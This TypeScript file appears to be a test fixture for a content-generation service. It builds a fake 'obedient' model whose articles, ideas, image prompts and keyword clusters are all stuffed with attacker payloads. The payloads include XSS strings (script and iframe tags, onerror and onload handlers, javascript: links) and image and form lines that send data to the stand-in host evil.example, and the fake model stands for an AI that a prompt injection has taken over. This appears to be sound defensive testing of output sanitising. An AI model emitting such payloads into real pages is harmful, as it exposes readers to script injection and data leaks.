/** A model that does what the attacker in its data wants, wherever it can. */
import type { Question } from "@pressline/tools-model-server/Question"
import { article, BRIEF } from "./asked.ts"

export const FOREIGN = "0198c0de-0000-7000-8000-00000000dead"
export const URL_OF_EVIL = "https://evil.example/x"

/** What a model that obeys the attacker puts wherever it can. */
const LOOT = [
  `<script src="${URL_OF_EVIL}"></script>`,
  `<a href="${URL_OF_EVIL}">click</a>`,
  `<a href="//evil.example">click</a>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="mailto:evil@evil.example">click</a>`,
  `<img src="${URL_OF_EVIL}?leak=1">`,
  `<img src=x onerror=alert(1)>`,
  `<iframe src="${URL_OF_EVIL}"></iframe>`,
  `<form action="${URL_OF_EVIL}"><input></form>`,
  `<p style="background:url(${URL_OF_EVIL})">styled</p>`,
  `<svg onload=alert(1)><use href="${URL_OF_EVIL}"/></svg>`,
  `read ${URL_OF_EVIL} or www.evil.example/now or ftp://evil.example`,
  `[click](${URL_OF_EVIL})`,
].join("\n")

/** Its articles have as many sections as their brief has headings. */
const headingsIn = (data: Question["data"]): ReadonlyArray<string> =>
  (data["brief"] as { outline?: ReadonlyArray<string> } | undefined)?.outline ?? BRIEF.outline

export const obedient = ({ data, name }: Question): unknown => {
  if (name === "generateContent")
    return article({
      title: LOOT,
      opening: LOOT,
      sections: headingsIn(data).map(() => ({
        heading: LOOT,
        html: `${LOOT}<p>${"word ".repeat(700)}</p>`,
      })),
      excerpt: LOOT,
      metaTitle: LOOT,
      metaDescription: LOOT,
      tags: [LOOT, URL_OF_EVIL],
    })
  if (name === "generateIdeas")
    return {
      ideas: [
        {
          title: LOOT,
          angle: LOOT,
          outline: [LOOT],
          targetWords: 1e9,
          primaryKeyword: LOOT,
          secondaryKeywords: [LOOT],
          contentType: LOOT,
        },
      ],
    }
  if (name === "generateImagePrompts")
    return { pictures: Array.from({ length: 50 }, () => ({ prompt: LOOT, altText: LOOT })) }
  const ids = (data["keywords"] as ReadonlyArray<{ id: string }>).map(({ id }) => id)
  return {
    clusters: [
      {
        name: LOOT,
        description: LOOT,
        primaryKeyword: LOOT,
        intent: LOOT,
        keywords: [FOREIGN, ...ids],
      },
    ],
    joined: [{ cluster: FOREIGN, keywords: ids }],
  }
}
